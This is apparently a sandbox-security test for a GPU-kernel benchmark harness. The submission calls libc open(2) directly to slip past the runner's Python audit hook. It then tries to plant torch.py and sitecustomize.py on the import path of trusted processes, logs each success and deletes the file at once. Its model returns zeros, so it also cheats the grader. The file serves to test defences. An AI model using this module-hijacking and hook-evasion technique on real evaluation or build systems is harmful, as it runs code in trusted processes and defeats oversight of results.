"""Attack PG-replace_torch (task matmul): plant a torch.py, and a
sitecustomize.py, where a Python of the audit would import it.

Adapts: gpu-mode/pygpubench exploits/submission_replace_torch.py at commit
87bb46dfef7f1c5d596c12b2e3ec14664b9f2319 (our own code).  There the submission writes torch.py into the working
directory, so that a later import of torch in that directory (the harness's
next process) runs the submission's code; pygpubench's Landlock rules must
refuse the write.

What it does: at import, tries to create (libc's open(2) with
O_CREAT|O_EXCL, below the runner's Python audit hook: it never overwrites a
file) torch.py and sitecustomize.py in its working directory,
its own folder, the directory of kaudit's runner (the one
runner/kaudit_party.py was loaded from, first on the runner's import path),
the audit's runner/ and top directories, and every directory of sys.path
(torch's site-packages among them); each file it could create is listed in
work/attack-replace-torch.marker as "planted PATH" and removed at once
(the test needs to know that it could, not to poison the machine).  Its
forward is zeros.

What it exploits (in pygpubench): a write root that holds a directory some
trusted process imports from.

What a correct defence must do: the candidate's process writes only its
own directories (work/, tmp/, cache/, home/, party/ of the audit), none of
which is on the import path of the runner or of any later audit: every
"planted" path lies beneath them.
"""
import ctypes
import os
import sys

import torch
import torch.nn as nn

_here = os.getcwd()
_dirs = [_here, os.path.dirname(os.path.abspath(__file__)), os.path.dirname(_here),
         os.path.join(os.path.dirname(_here), "runner")]
_party = sys.modules.get("kaudit_party") or sys.modules.get("__main__")
if getattr(_party, "__file__", None):
    _dirs.append(os.path.dirname(os.path.abspath(_party.__file__)))
_dirs += [p for p in sys.path if p and os.path.isdir(p)]
_dirs.append(os.path.dirname(os.path.dirname(torch.__file__)))
_lines = []
_libc = ctypes.CDLL(None, use_errno=True)
_libc.open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_int]
for _d in dict.fromkeys(os.path.realpath(x) for x in _dirs):
    for _n in ("torch.py", "sitecustomize.py"):
        _p = os.path.join(_d, _n)
        # libc's open(2), below the runner's Python audit hook: what the
        # kernel (Landlock, the uid) lets through
        _fd = _libc.open(_p.encode(), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
        if _fd < 0:
            _lines.append("refused %s: %s" % (_p, os.strerror(ctypes.get_errno())))
            continue
        os.write(_fd, b"raise SystemExit('kaudit attack: planted module')\n")
        os.close(_fd)
        _lines.append("planted %s" % _p)
        try:
            os.unlink(_p)
        except OSError as _e:
            _lines.append("could not remove %s: %s" % (_p, _e.strerror))
try:
    with open("attack-replace-torch.marker", "w") as _f:
        _f.write("\n".join(_lines) + "\n")
except OSError:
    pass


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, a, b):
        return torch.zeros(a.shape[0], b.shape[1], dtype=a.dtype, device=a.device)
